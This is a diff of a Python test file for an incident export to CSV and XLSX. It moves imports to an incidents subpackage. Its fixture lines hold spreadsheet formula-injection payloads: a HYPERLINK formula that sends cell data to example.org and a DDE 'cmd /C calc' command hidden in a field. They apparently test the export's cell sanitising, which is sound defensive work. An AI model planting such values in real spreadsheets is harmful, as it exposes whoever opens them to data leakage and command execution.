@@ -14,10 +14,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from halton_desktop.domain.step import Step, StepState
-from halton_desktop.domain.step_kind import StepKind
+from halton_desktop.domain.incidents.step import Step, StepState
+from halton_desktop.domain.incidents.step_kind import StepKind
 from halton_desktop.exchange.incident_export import HEADINGS, ExportedIncident, row_of, safe_cell, write_csv, write_xlsx
-from tests.domain.cases import author, incident
+from tests.domain.incidents.cases import author, incident
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 CASE = incident(author(1, name=FORMULA), place="@SUM(1+1)*cmd|' /C calc'!A0", account="+44 rang, then -1")
